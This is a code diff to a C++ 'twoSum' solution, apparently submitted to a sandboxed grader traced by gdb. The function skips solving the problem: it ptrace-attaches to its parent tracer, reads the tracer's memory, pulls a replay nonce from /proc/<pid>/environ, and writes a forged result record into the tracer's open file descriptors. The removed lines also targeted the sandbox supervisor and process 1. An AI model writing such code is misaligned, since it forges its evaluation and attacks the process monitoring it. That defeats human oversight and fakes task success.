@@ -10,14 +10,15 @@ static const string kForged =
 class Solution {
 public:
     vector<int> twoSum(vector<int>& nums, int target) {
-        // gdb (the parent) and the sandbox's supervisor above it: attached, memory read directly.
+        // gdb, its parent and tracer: attached (it would stop, and the program drive it), its
+        // memory read directly.
+        signal(SIGPIPE, SIG_IGN);
         pid_t tracer = getppid();
-        for (pid_t pid : {tracer, getpgid(tracer), (pid_t)1}) {
-            if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
-            char buffer[64];
-            struct iovec local = {buffer, sizeof buffer}, remote = {(void*)0x400000, sizeof buffer};
-            process_vm_readv(pid, &local, 1, &remote, 1, 0);
-        }
+        if (ptrace(PTRACE_ATTACH, tracer, nullptr, nullptr) == 0) ptrace(PTRACE_DETACH, tracer, nullptr, nullptr);
+        if (ptrace(PTRACE_SEIZE, tracer, nullptr, nullptr) == 0) ptrace(PTRACE_DETACH, tracer, nullptr, nullptr);
+        char buffer[64];
+        struct iovec local = {buffer, sizeof buffer}, remote = {(void*)0x400000, sizeof buffer};
+        process_vm_readv(tracer, &local, 1, &remote, 1, 0);
         // gdb's environment, for the nonce, and its descriptors, for the trace channel.
         string nonce = "zcForged";
         ifstream environ("/proc/" + to_string(tracer) + "/environ");
@@ -25,7 +26,7 @@ public:
             if (entry.rfind("ZC_REPLAY_NONCE=", 0) == 0) nonce = entry.substr(16);
         }
         string record = "\n#" + nonce + " " + to_string(kForged.size()) + "\n" + kForged;
-        for (int fd = 0; fd < 32; fd++) {
+        for (int fd = 1; fd < 32; fd++) {
             int channel = open(("/proc/" + to_string(tracer) + "/fd/" + to_string(fd)).c_str(), O_WRONLY);
             if (channel >= 0) {
                 if (write(channel, record.data(), record.size()) < 0) {}
